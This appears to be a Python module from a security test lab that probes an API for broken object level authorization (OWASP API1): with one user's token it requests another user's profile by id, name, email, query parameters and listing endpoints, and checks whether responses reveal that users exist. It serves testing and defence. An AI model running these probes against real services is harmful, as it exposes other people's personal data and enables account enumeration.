"""Read who somebody else is, with a token of your own.

Exploits a server that checks who asks, and whether they may read users, but not whose profile it
is. Whoever has an account reads the addresses of all, one id after the other. Or it shows nobody
else, but answers otherwise where there is somebody.
Source: OWASP API Security Top 10 2023, API1 Broken Object Level Authorization,
https://owasp.org/API-Security/editions/2023/en/0xa1-broken-object-level-authorization/
ASVS: 8.2.2
"""

from collections.abc import Iterator
from uuid import uuid4

import httpx

from attacks.lab.attack import attack
from attacks.lab.outcome import Outcome, breakdown, got_in
from attacks.lab.target import NotApplicableError, Person, Target, borne
from attacks.lab.ways_out import MISSING


def looks(target: Target, victim: Person) -> Iterator[tuple[str, httpx.Response]]:
    """Ask for the victim by each name; last, for all."""
    header = borne(target.token_of(target.attacker))
    own, other = target.id_of(target.attacker), target.id_of(victim)
    for trick, path, query in (
        ("its id", f"/users/{other}", {}),
        ("its id in capitals", f"/users/{other.upper()}", {}),
        ("its name", f"/users/{victim.username}", {}),
        ("its address", f"/users/{victim.email}", {}),
        ("its id beside your own", f"/users/{own}", {"user_id": other, "id": other}),
        ("its name beside your own", f"/users/{own}", {"username": victim.username}),
        ("nothing, so all", "/users", {}),
        ("those behind a name", "/users", {"after": victim.username[:-1]}),
    ):
        yield trick, target.http.get(path, params=query, headers=header)


def tells_who_exists(target: Target, victim: Person) -> str | None:
    """Ask for the victim and for nobody; say where the answers differ in more than the id."""
    header, other = borne(target.token_of(target.attacker)), target.id_of(victim)
    nobody = str(10**9) if other.isdigit() else str(uuid4())
    for method, path in {"GET": "/users/{}", "POST": "/users/{}/disable"}.items():
        answers = {
            user: target.http.request(method, path.format(user), headers=header)
            for user in (other, nobody)
        }
        told = {(it.status_code, it.text.replace(user, "")) for user, it in answers.items()}
        if len(told) > 1:
            codes = " or ".join(str(answer.status_code) for answer in answers.values())
            return f"{method} is answered {codes}, with the id of a user or of nobody"
    return None


@attack(door="other-profile")
def run(target: Target) -> Outcome:
    """Look for the victim's address in each answer, and for a sign that there is a victim."""
    target.must_issue_tokens()
    victim, own = target.enrol(), target.id_of(target.attacker)
    profile = target.http.get(f"/users/{own}", headers=borne(target.token_of(target.attacker)))
    if profile.status_code in MISSING:
        raise NotApplicableError("there are no profiles here")
    answers = dict(looks(target, victim))
    for trick, answer in answers.items():
        if answer.is_success and victim.email in answer.text:
            return got_in(f"{trick}: {answer.status_code}, with the address")
    if difference := tells_who_exists(target, victim):
        return got_in(f"whoever asks learns who exists: {difference}")
    return breakdown(answers, f"{len(answers)} ways to ask: nothing of somebody else is shown")
